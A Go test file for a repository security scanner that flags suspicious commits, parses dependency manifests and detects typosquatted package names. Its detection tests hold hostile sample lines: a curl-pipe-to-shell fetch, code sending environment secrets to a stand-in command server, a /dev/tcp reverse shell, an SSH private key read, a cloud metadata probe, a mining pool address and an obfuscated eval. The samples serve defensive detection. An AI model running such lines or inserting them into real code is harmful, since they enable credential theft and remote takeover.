package signals

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repo-sentinel/internal/model"
)

func TestPatternScanner_Detections(t *testing.T) {
	s := NewPatternScanner()

	tests := []struct {
		name string
		text string
		want string
	}{
		{"curl pipe sh", "curl -s https://evil.example/x.sh | sh", "remote_code_fetch"},
		{"eval atob", "eval(atob('cGF5bG9hZA=='))", "obfuscated_eval"},
		{"postinstall hook", `"postinstall": "node setup.js"`, "install_hook"},
		{"env to http", `fetch("https://c2.example/?k=" + process.env.AWS_SECRET)`, "env_exfiltration"},
		{"env then fetch", `const k = process.env.TOKEN; fetch("https://c2.example/" + k)`, "env_exfiltration"},
		{"ssh key read", "data = open('/home/u/.ssh/id_rsa').read()", "credential_paths"},
		{"dev tcp shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell"},
		{"stratum pool", "POOL=stratum+tcp://pool.example:3333", "crypto_miner"},
		{"metadata probe", "requests.get('http://169.254.169.254/latest/meta-data/')", "metadata_service"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			names := Names(s.Scan(tt.text))
			found := false
			for _, n := range names {
				if n == tt.want {
					found = true
				}
			}
			if !found {
				t.Errorf("Scan(%q) = %v, want to include %q", tt.text, names, tt.want)
			}
		})
	}
}

func TestPatternScanner_CleanText(t *testing.T) {
	s := NewPatternScanner()
	if got := s.Scan("func Add(a, b int) int { return a + b }"); len(got) != 0 {
		t.Errorf("Scan(clean code) = %v, want empty", Names(got))
	}
}

func TestHighestSeverity(t *testing.T) {
	matches := []Match{
		{Name: "a", Severity: model.SeverityMedium},
		{Name: "b", Severity: model.SeverityCritical},
		{Name: "c", Severity: model.SeverityHigh},
	}
	sev, ok := HighestSeverity(matches)
	if !ok || sev != model.SeverityCritical {
		t.Errorf("HighestSeverity = %v, %v; want critical, true", sev, ok)
	}
	if _, ok := HighestSeverity(nil); ok {
		t.Error("HighestSeverity(nil) ok = true, want false")
	}
}

const sampleDiff = `diff --git a/index.js b/index.js
index 1111111..2222222 100644
--- a/index.js
+++ b/index.js
@@ -1,3 +1,5 @@
 const fs = require('fs');
+const payload = atob(blob);
+eval(atob(blob));
 module.exports = {};
`

func TestCommitExtractor_Extract(t *testing.T) {
	logOutput := strings.Join([]string{
		"aaaa1111bbbb2222cccc3333dddd4444eeee5555", "Mallory <m@example.com>", "1735689600", "add helper\n\nmultiline body",
	}, fieldSep) + recordSep + strings.Join([]string{
		"ffff6666aaaa7777bbbb8888cccc9999dddd0000", "Alice <a@example.com>", "1735693200", "fix typo",
	}, fieldSep) + recordSep

	orig := gitLog
	gitLog = func(_ context.Context, _ string, args ...string) (string, error) {
		switch args[0] {
		case "log":
			return logOutput, nil
		case "show":
			return sampleDiff, nil
		}
		t.Fatalf("unexpected git subcommand %q", args[0])
		return "", nil
	}
	t.Cleanup(func() { gitLog = orig })

	e := NewCommitExtractor(50, 16*1024)
	records, err := e.Extract(context.Background(), "/tmp/repo")
	if err != nil {
		t.Fatalf("Extract: %v", err)
	}
	if len(records) != 2 {
		t.Fatalf("got %d records, want 2", len(records))
	}

	first := records[0]
	if first.Hash != "aaaa1111bbbb2222cccc3333dddd4444eeee5555" {
		t.Errorf("Hash = %q", first.Hash)
	}
	if first.Message != "add helper\n\nmultiline body" {
		t.Errorf("Message = %q", first.Message)
	}
	if len(first.Files) != 1 || first.Files[0] != "index.js" {
		t.Errorf("Files = %v, want [index.js]", first.Files)
	}
	if first.Added != 2 || first.Removed != 0 {
		t.Errorf("Added/Removed = %d/%d, want 2/0", first.Added, first.Removed)
	}
	found := false
	for _, p := range first.SuspiciousPatterns {
		if p == "obfuscated_eval" {
			found = true
		}
	}
	if !found {
		t.Errorf("SuspiciousPatterns = %v, want to include obfuscated_eval", first.SuspiciousPatterns)
	}
}

func TestCommitExtractor_SkipsMalformedRecords(t *testing.T) {
	logOutput := "garbage-without-separators" + recordSep + strings.Join([]string{
		"ffff6666aaaa7777bbbb8888cccc9999dddd0000", "Alice <a@example.com>", "1735693200", "ok",
	}, fieldSep) + recordSep

	orig := gitLog
	gitLog = func(_ context.Context, _ string, args ...string) (string, error) {
		if args[0] == "log" {
			return logOutput, nil
		}
		return sampleDiff, nil
	}
	t.Cleanup(func() { gitLog = orig })

	records, err := NewCommitExtractor(50, 1024).Extract(context.Background(), "/tmp/repo")
	if err != nil {
		t.Fatalf("Extract: %v", err)
	}
	if len(records) != 1 {
		t.Fatalf("got %d records, want 1 (malformed skipped)", len(records))
	}
}

func TestCommitExtractor_TruncatesDiff(t *testing.T) {
	long := sampleDiff + strings.Repeat("+// padding\n", 200)
	orig := gitLog
	gitLog = func(_ context.Context, _ string, args ...string) (string, error) {
		if args[0] == "log" {
			return strings.Join([]string{
				"aaaa1111bbbb2222cccc3333dddd4444eeee5555", "M <m@e.com>", "1735689600", "big",
			}, fieldSep) + recordSep, nil
		}
		return long, nil
	}
	t.Cleanup(func() { gitLog = orig })

	records, err := NewCommitExtractor(10, 256).Extract(context.Background(), "/tmp/repo")
	if err != nil {
		t.Fatalf("Extract: %v", err)
	}
	if !strings.HasSuffix(records[0].Diff, "[diff truncated]") {
		t.Error("long diff was not truncated")
	}
	if len(records[0].Diff) > 256+len("\n... [diff truncated]") {
		t.Errorf("truncated diff is %d bytes", len(records[0].Diff))
	}
}

func TestDependencyExtractor_AllManifests(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", `{
  "dependencies": {"express": "^4.18.0", "lodahs": "1.0.0"},
  "devDependencies": {"eslint": "^9.0.0"}
}`)
	writeFile(t, dir, "requirements.txt", "requests==2.31.0\nflask>=2.0  # web\n-r other.txt\nnumpy\n")
	writeFile(t, dir, "go.mod", `module example.com/demo

go 1.24

require (
	github.com/google/uuid v1.6.0
	github.com/rs/zerolog v1.34.0 // indirect
)
`)

	deps := NewDependencyExtractor().Extract(dir)

	byEco := map[string][]model.DependencyRecord{}
	for _, d := range deps {
		byEco[d.Ecosystem] = append(byEco[d.Ecosystem], d)
	}
	if len(byEco[EcosystemNPM]) != 3 {
		t.Errorf("npm deps = %d, want 3", len(byEco[EcosystemNPM]))
	}
	if len(byEco[EcosystemPyPI]) != 3 {
		t.Errorf("pypi deps = %d, want 3", len(byEco[EcosystemPyPI]))
	}
	// Indirect requires are excluded.
	if len(byEco[EcosystemGo]) != 1 || byEco[EcosystemGo][0].Name != "github.com/google/uuid" {
		t.Errorf("gomod deps = %v", byEco[EcosystemGo])
	}
}

func TestDependencyExtractor_NoManifests(t *testing.T) {
	if deps := NewDependencyExtractor().Extract(t.TempDir()); len(deps) != 0 {
		t.Errorf("got %d deps from empty tree, want 0", len(deps))
	}
}

func TestDependencyExtractor_BrokenManifestSkipped(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "package.json", "{not json")
	writeFile(t, dir, "requirements.txt", "requests==2.31.0\n")

	deps := NewDependencyExtractor().Extract(dir)
	if len(deps) != 1 || deps[0].Ecosystem != EcosystemPyPI {
		t.Errorf("deps = %v, want only the pypi entry", deps)
	}
}

func TestSplitRequirement(t *testing.T) {
	tests := []struct {
		line, name, version string
	}{
		{"requests==2.31.0", "requests", "2.31.0"},
		{"flask>=2.0", "flask", "2.0"},
		{"numpy", "numpy", ""},
		{"uvicorn[standard]", "uvicorn", ""},
		{"tomli; python_version < '3.11'", "tomli", ""},
		{"importlib-metadata>=4.0; python_version < '3.8'", "importlib-metadata", "4.0"},
		{"uvicorn[standard]>=0.20", "uvicorn", "0.20"},
	}
	for _, tt := range tests {
		name, version := splitRequirement(tt.line)
		if name != tt.name || version != tt.version {
			t.Errorf("splitRequirement(%q) = %q, %q; want %q, %q",
				tt.line, name, version, tt.name, tt.version)
		}
	}
}

func TestAssessTyposquat(t *testing.T) {
	tests := []struct {
		name      string
		dep       model.DependencyRecord
		suspected bool
	}{
		{"exact popular name", model.DependencyRecord{Name: "lodash", Ecosystem: EcosystemNPM}, false},
		{"transposition", model.DependencyRecord{Name: "lodahs", Ecosystem: EcosystemNPM}, false},
		{"one char off", model.DependencyRecord{Name: "lodas", Ecosystem: EcosystemNPM}, true},
		{"separator swap", model.DependencyRecord{Name: "node.fetch", Ecosystem: EcosystemNPM}, true},
		{"pypi substitution", model.DependencyRecord{Name: "reqeusts", Ecosystem: EcosystemPyPI}, false},
		{"pypi one edit", model.DependencyRecord{Name: "request", Ecosystem: EcosystemPyPI}, true},
		{"unrelated name", model.DependencyRecord{Name: "left-handed-widgets", Ecosystem: EcosystemNPM}, false},
		{"go path squat", model.DependencyRecord{Name: "github.com/strechr/testifyy", Ecosystem: EcosystemGo}, true},
		{"go legit", model.DependencyRecord{Name: "github.com/stretchr/testify", Ecosystem: EcosystemGo}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := AssessTyposquat(tt.dep)
			if got.Suspected != tt.suspected {
				t.Errorf("AssessTyposquat(%q).Suspected = %v, want %v (similar: %v)",
					tt.dep.Name, got.Suspected, tt.suspected, got.SimilarTo)
			}
			if got.Suspected && got.Confidence <= 0 {
				t.Error("suspected squat with zero confidence")
			}
		})
	}
}

func TestEditDistanceAtMostOne(t *testing.T) {
	tests := []struct {
		a, b string
		want bool
	}{
		{"react", "react", true},
		{"react", "reactt", true},
		{"react", "reacy", true},
		{"react", "eact", true},
		{"react", "raect", false}, // transposition is two edits
		{"react", "vue", false},
	}
	for _, tt := range tests {
		if got := editDistanceAtMostOne(tt.a, tt.b); got != tt.want {
			t.Errorf("editDistanceAtMostOne(%q, %q) = %v, want %v", tt.a, tt.b, got, tt.want)
		}
	}
}

func writeFile(t *testing.T, dir, name, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
